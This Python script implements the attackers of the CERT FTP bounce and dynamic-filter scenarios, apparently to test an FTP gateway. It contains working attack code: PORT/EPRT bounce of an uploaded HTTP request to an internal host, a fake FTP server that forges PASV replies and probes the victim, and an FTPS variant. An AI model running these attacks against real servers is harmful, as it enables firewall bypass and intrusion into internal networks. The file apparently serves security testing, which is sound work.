#!/usr/bin/env python3
"""The attackers of the CERT scenarios, as small stdlib programs (one per sub-command).

  attack.py bypass HOST PORT VICTIM_IP VICTIM_PORT
      Filter bypass: log in anonymously, upload an HTTP request (passive), then PORT + RETR (and EPRT + RETR)
      to make the server deliver it to the victim's internal web server. Prints a JSON transcript.
  attack.py applet HOST PORT USER VICTIM_IP VICTIM_PORT
      Dynamic-filter attack, inside part (the CERT "Java applet"): open a control connection outward and send
      PORT (and EPRT) naming the inside victim, then LIST. Prints a JSON transcript.
  attack.py evilftpd ADDR PORT VICTIM_IP VICTIM_PORT LOG
      Dynamic-filter attack, outside part: a fake FTP server. Whenever it gets PORT/EPRT it connects to the
      address named (as a server would) and, whatever it got, tries the victim directly too. Logs JSON lines.
      It answers PASV with a forged 227 naming VICTIM_IP:8080 (attack_extra.py forged227).

  attack.py --tls CA SUB-COMMAND ...   bypass and applet over FTPS: AUTH TLS (the gateway's certificate checked
      against CA), PBSZ 0 and PROT P after the login, and every data connection resuming the control
      connection's TLS session, so that every command travels inside TLS.
"""
import json, re, socket, ssl, sys, threading, time

CA = None  # --tls CA


def jprint(obj):
    print(json.dumps(obj, indent=1), flush=True)


class Control:
    def __init__(self, host, port):
        self.host = host
        self.sock = socket.create_connection((host, int(port)), timeout=10)
        self.buf = b""
        self.transcript = []
        self.ctx = ssl.create_default_context(cafile=CA) if CA else None

    def secure(self):
        """With --tls: AUTH TLS and the handshake (before USER)."""
        if self.ctx:
            code, _ = self.cmd("AUTH TLS")
            if code != 234:
                raise RuntimeError("AUTH TLS answered %s" % code)
            self.sock = self.ctx.wrap_socket(self.sock, server_hostname=self.host)
            self.transcript.append("--- TLS %s %s" % (self.sock.version(), self.sock.cipher()[0]))

    def login(self, user, password):
        self.reply()
        self.secure()
        self.cmd("USER " + user)
        code, _ = self.cmd("PASS " + password)
        if self.ctx:
            self.cmd("PBSZ 0")
            self.cmd("PROT P")
        return code

    def data(self, sock):
        """A data connection, after its transfer command was sent: with --tls, TLS resuming the control
        connection's session (as vsftpd demands); the gateway starts the handshake once it has the command."""
        if not self.ctx:
            return sock
        s = self.ctx.wrap_socket(sock, server_hostname=self.host, session=self.sock.session)
        self.transcript.append("--- data TLS %s, resumed %s" % (s.version(), s.session_reused))
        return s

    def reply(self, timeout=10):
        self.sock.settimeout(timeout)
        lines = []
        while True:
            while b"\n" not in self.buf:
                try:
                    chunk = self.sock.recv(4096)
                except socket.timeout:
                    self.transcript.append("<-- (timeout)")
                    return None, lines
                if not chunk:
                    self.transcript.append("<-- (closed)")
                    return None, lines
                self.buf += chunk
            line, self.buf = self.buf.split(b"\n", 1)
            text = line.decode("latin-1").rstrip("\r")
            lines.append(text)
            self.transcript.append("<-- " + text)
            if re.match(r"^\d{3} ", text):
                return int(text[:3]), lines

    def cmd(self, line, timeout=10):
        self.transcript.append("--> " + line)
        self.sock.sendall(line.encode() + b"\r\n")
        return self.reply(timeout)


def port_arg(ip, port):
    return ",".join(ip.split(".")) + ",%d,%d" % (port // 256, port % 256)


def eprt_arg(ip, port):
    return "|%d|%s|%d|" % (2 if ":" in ip else 1, ip, port)


def passive_connect(c, host):
    """EPSV (works on IPv4 and IPv6); connects to the control host at the port given."""
    code, lines = c.cmd("EPSV")
    if code != 229:
        return None
    port = int(re.search(r"\|\|\|(\d+)\|", lines[-1]).group(1))
    return socket.create_connection((host, port), timeout=10)


def close_data(s):
    """Ends a data connection; under TLS with close_notify, reading what the gateway still sends (its session
    ticket) so that the close is a FIN, not a reset that would lose the data's tail."""
    if isinstance(s, ssl.SSLSocket):
        try:
            s = s.unwrap()
            s.shutdown(socket.SHUT_WR)
            while s.recv(4096):
                pass
        except OSError:
            pass
    s.close()


def bypass(host, port, victim_ip, victim_port):
    c = Control(host, port)
    c.login("anonymous", "attacker@example.org")
    c.cmd("TYPE I")
    request = ("GET /internal/secret HTTP/1.0\r\nHost: intranet.example\r\nX-Bounce: ftp\r\n\r\n").encode()
    name = "req-%d.txt" % int(time.time() * 1000)
    data = passive_connect(c, host)
    uploaded = False
    if data:
        c.transcript.append("--> STOR " + name)
        c.sock.sendall(("STOR %s\r\n" % name).encode())
        data = c.data(data)
        code, _ = c.reply()
        if code in (125, 150):
            data.sendall(request)
            close_data(data)
            code, _ = c.reply()
            uploaded = code == 226
        else:
            close_data(data)
    results = []
    attempts = [("EPRT", eprt_arg(victim_ip, int(victim_port)))]
    if "." in victim_ip:  # PORT can only name IPv4 addresses
        attempts.insert(0, ("PORT", port_arg(victim_ip, int(victim_port))))
    for verb, arg in attempts:
        code, _ = c.cmd("%s %s" % (verb, arg), timeout=15)
        rcode, _ = c.cmd("RETR " + name, timeout=15)
        final = None
        if rcode in (125, 150):
            final, _ = c.reply(timeout=15)
        results.append({"verb": verb, "reply": code, "retr": rcode, "final": final})
    c.cmd("QUIT")
    jprint({"uploaded": uploaded, "results": results, "transcript": c.transcript})


def applet(host, port, user, victim_ip, victim_port):
    c = Control(host, port)
    c.login(user, "applet@example.org")
    results = []
    for verb, arg in (("PORT", port_arg(victim_ip, int(victim_port))), ("EPRT", eprt_arg(victim_ip, int(victim_port)))):
        code, _ = c.cmd("%s %s" % (verb, arg))
        lcode, _ = c.cmd("LIST", timeout=15)
        if lcode in (125, 150):
            c.reply(timeout=15)
        results.append({"verb": verb, "reply": code, "list": lcode})
        time.sleep(2)  # give the outside attacker time to use any hole
    c.cmd("QUIT")
    jprint({"results": results, "transcript": c.transcript})


def evilftpd(addr, port, victim_ip, victim_port, log_path):
    lock = threading.Lock()

    def log(entry):
        entry["ts"] = time.time()
        with lock, open(log_path, "a") as f:
            f.write(json.dumps(entry) + "\n")

    def try_connect(ip, p, why):
        try:
            s = socket.create_connection((ip, p), timeout=3)
            s.settimeout(2)
            try:
                banner = s.recv(200).decode("latin-1")
            except OSError:
                banner = ""
            s.sendall(b"root\r\n")
            s.close()
            log({"event": "connect", "why": why, "target": "%s:%d" % (ip, p), "result": "connected", "banner": banner})
            return True
        except OSError as e:
            log({"event": "connect", "why": why, "target": "%s:%d" % (ip, p), "result": "failed", "error": str(e)})
            return False

    def session(conn, peer):
        log({"event": "session", "peer": "%s:%d" % peer[:2]})
        f = conn.makefile("rwb", buffering=0)
        conn.sendall(b"220 partner ftp ready\r\n")
        target = None
        for raw in f:
            line = raw.decode("latin-1").rstrip("\r\n")
            log({"event": "command", "peer": "%s:%d" % peer[:2], "line": line})
            verb = line.split(" ", 1)[0].upper()
            arg = line[len(verb) + 1:]
            if verb == "USER":
                conn.sendall(b"331 password please\r\n")
            elif verb == "PASS":
                conn.sendall(b"230 logged in\r\n")
            elif verb == "PORT":
                n = [int(x) for x in arg.split(",")]
                target = (".".join(map(str, n[:4])), n[4] * 256 + n[5])
                conn.sendall(b"200 PORT ok\r\n")
                try_connect(target[0], target[1], "named in PORT")
            elif verb == "EPRT":
                parts = arg.split(arg[0])
                target = (parts[2], int(parts[3]))
                conn.sendall(b"200 EPRT ok\r\n")
                try_connect(target[0], target[1], "named in EPRT")
            elif verb == "PASV":  # forged: the victim's web server instead of this server
                conn.sendall(("227 Entering Passive Mode (%s,31,144)\r\n" % victim_ip.replace(".", ",")).encode())
            elif verb == "EPSV":
                conn.sendall(b"502 no passive here\r\n")
            elif verb in ("LIST", "NLST", "RETR"):
                if target and try_connect(target[0], target[1], "data connection for " + verb):
                    conn.sendall(b"150 here it comes\r\n226 done\r\n")
                else:
                    conn.sendall(b"425 no data connection\r\n")
            elif verb == "QUIT":
                conn.sendall(b"221 bye\r\n")
                break
            elif verb == "SYST":
                conn.sendall(b"215 UNIX Type: L8\r\n")
            elif verb == "FEAT":
                conn.sendall(b"211 no features\r\n")
            else:
                conn.sendall(b"200 ok\r\n")
        conn.close()
        # Whatever happened, the attacker now tries the victim directly: is there a hole?
        try_connect(victim_ip, int(victim_port), "direct attempt after the session")

    family = socket.AF_INET6 if ":" in addr else socket.AF_INET
    s = socket.socket(family, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((addr, int(port)))
    s.listen(16)
    print("listening", flush=True)
    while True:
        conn, peer = s.accept()
        threading.Thread(target=session, args=(conn, peer), daemon=True).start()


if __name__ == "__main__":
    args = sys.argv[1:]
    if args[0] == "--tls":
        CA, args = args[1], args[2:]
    {"bypass": bypass, "applet": applet, "evilftpd": evilftpd}[args[0]](*args[1:])
